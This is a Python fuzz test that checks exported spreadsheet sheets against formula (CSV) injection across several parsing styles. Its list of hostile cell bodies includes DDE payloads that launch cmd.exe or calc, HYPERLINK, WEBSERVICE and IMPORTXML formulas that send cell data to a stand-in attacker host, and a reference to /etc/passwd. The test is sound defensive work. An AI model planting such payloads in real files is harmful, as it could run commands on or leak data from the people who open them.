"""Texts that a spreadsheet would calculate, in every column of every sheet that is taken home.

The sheets are read as the spreadsheets of several countries read them: with commas, with semicolons
or tabs between the cells, and by a reader that knows no quotes. Whether a cell is a formula is
judged here anew, and more strictly than any one program does.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cache, lru_cache
from itertools import islice
from random import Random
from typing import Final

from server.debrief.spreadsheet import SHEETS, Row, sheet
from tests.server.debrief.stories import every_table
from tests.siege.kinds import Siege, Trial

BEFORE: Final = (
    *("", "", "", " ", "   ", " " * 30, "\t", "\r", "\n", "\r\n", "\0", "\x0b", "\x0c", "\x1f"),
    *("\xa0", "\u200b", "\ufeff", "\u3000", "\u2060", "\u200e", "\u202e", "\u00ad", "\u2028"),
    *('"', '""', "a;", "a; ", 'a;"', 'a;""', "a\t", 'a\t"', "a\n", 'a\r"', "a,", 'a,"', ";", '";'),
    *("a;\u200b", "a;\ufeff", "a;\t", '";"', "1;", "-5;", "a;\0", "a\u2028"),
)
OPENERS: Final = (
    *("=", "=", "=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "==", "-+", "+=", "=-"),
    *("\ufe66", "\ufe62", "\ufe63", "\ufe6b"),
)
BODIES: Final = (
    *("1+1", "1", "A1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "MSEXCEL|'\\..\\cmd.exe'!''", "2^9"),
    *('HYPERLINK("http://evil.example/?x="&A1)', 'WEBSERVICE("http://evil.example")', "NOW()"),
    *(
        'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
        "'file:///etc/passwd'#$x.A1",
        "[1]x!A1",
    ),
    *("1e5", "5;=1", '1"', '1;"=2', "1\n=2", "x" * 300, "\u202e1+1", "1,=2", 'DDE("soffice";"x")'),
)
AFTER: Final = ("", "", "", ";", '"', '";', " ", "\t", "\r\n", "'", ",", "\0")


def text(chance: Random) -> str:
    """Something that somebody could have written as a name or an aim."""
    pieces = [
        "".join(map(chance.choice, (BEFORE, BEFORE, OPENERS, BODIES, AFTER)))
        if chance.random() < 0.3
        else "".join(map(chance.choice, (BEFORE, OPENERS, BODIES, AFTER)))
        for _ in range(chance.choice([1, 1, 1, 2, 3]))
    ]
    return "".join(pieces)


NUMBER: Final = re.compile(r"[-+]?\d+([.,]\d+)?")
UNSEEN: Final = frozenset({"Cc", "Cf", "Zs", "Zl", "Zp"})


@lru_cache(maxsize=4_096)  # most cells of a sheet are the same each time
def is_formula(cell: str) -> bool:
    """Whether some spreadsheet might calculate this, whatever unseen stands before it."""
    at = next((at for at, it in enumerate(cell) if unicodedata.category(it) not in UNSEEN), None)
    if at is None:
        return False
    plain = unicodedata.normalize("NFKC", cell[at:])
    return plain.startswith(("=", "+", "-", "@")) and NUMBER.fullmatch(plain.strip()) is None


def cells(written: str) -> Iterator[tuple[str, str]]:
    """How each reader reads the sheet: its name, and a cell."""
    for name, between in (("commas", ","), ("semicolons", ";"), ("tabs", "\t")):
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=between):
            for cell in row:
                yield name, cell
    for line in re.split(r"[\r\n]", written):
        for cell in re.split(r"[;\t]", line):
            yield "no quotes", cell


@cache
def rows_of(name: str) -> tuple[Row, ...]:
    """As many true rows of a sheet as it has columns, with its first line before them."""
    made = list(islice(SHEETS[name](every_table()), 40))
    head, rest = made[0], made[1:] or [["" for _ in made[0]]]
    return (head, *(rest[at % len(rest)] for at in range(len(head))))


def attacked(name: str, hostile: str) -> str:
    """The sheet, with the text in each of its columns once."""
    head, *rows = rows_of(name)
    planted = [[*row[:at], hostile, *row[at + 1 :]] for at, row in enumerate(rows)]
    return sheet([head, *planted])


@contextmanager
def opened(seed: int) -> Iterator[Trial]:
    """One text for each trial, in all columns of all sheets."""

    def trial(number: int) -> int:
        hostile = text(Random(f"cells {seed} {number}"))
        columns = 0
        for name in SHEETS:
            written = attacked(name, hostile)
            found = [(reader, cell) for reader, cell in cells(written) if is_formula(cell)]
            assert not found, f"{hostile!r} in {name}, read with {found[0][0]}: {found[0][1]!r}"
            columns += len(rows_of(name)) - 1
        return columns

    yield trial


CELLS: Final = Siege(
    name="cells",
    says="no text becomes a formula, in whatever column, however the sheet is read",
    gate=300,
    release=10_000,
    opened=opened,
)
